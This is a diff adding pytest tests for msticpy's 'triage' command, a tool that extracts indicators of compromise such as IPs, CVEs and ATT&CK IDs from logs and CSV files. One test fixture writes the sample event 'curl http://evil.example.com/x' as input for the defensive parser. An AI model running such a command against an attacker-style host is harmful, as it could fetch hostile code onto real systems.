@@ -1,0 +1,51 @@
+"""The ``python -m msticpy triage`` command."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+
+def run(*args: str) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "-m", "msticpy", *args],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+
+
+def test_triage_bundled_sample_text() -> None:
+    proc = run("triage")
+    assert proc.returncode == 0, proc.stderr
+    assert "IoC triage of" in proc.stdout
+    assert "ipv4" in proc.stdout and "45.133.1.20" in proc.stdout
+    assert "(defanged in source)" in proc.stdout
+
+
+def test_triage_json_counts() -> None:
+    proc = run("triage", "--json", "--top", "50")
+    report = json.loads(proc.stdout)
+    assert report["cells"] == 20
+    ipv4 = {item["value"]: item["count"] for item in report["iocs"]["ipv4"]["top"]}
+    assert ipv4["10.20.4.17"] == 6
+    assert report["iocs"]["cve"]["distinct"] == 2
+    assert {i["value"] for i in report["iocs"]["mitre_attack"]["top"]} >= {"T1059.001"}
+
+
+def test_triage_csv_column(tmp_path: Path) -> None:
+    csv_file = tmp_path / "events.csv"
+    csv_file.write_text('id,cmd\n1,"curl http://evil.example.com/x"\n2,ping 8.8.8.8\n')
+    proc = run("triage", str(csv_file), "--column", "cmd", "--json", "--progress", "always")
+    report = json.loads(proc.stdout)
+    assert report["cells"] == 2
+    assert report["iocs"]["ipv4"]["top"][0]["value"] == "8.8.8.8"
+    assert "%" in proc.stderr  # the progress bar
+
+
+def test_triage_missing_file() -> None:
+    proc = run("triage", "/no/such/file.log")
+    assert proc.returncode == 2
+    assert "no such file" in proc.stderr
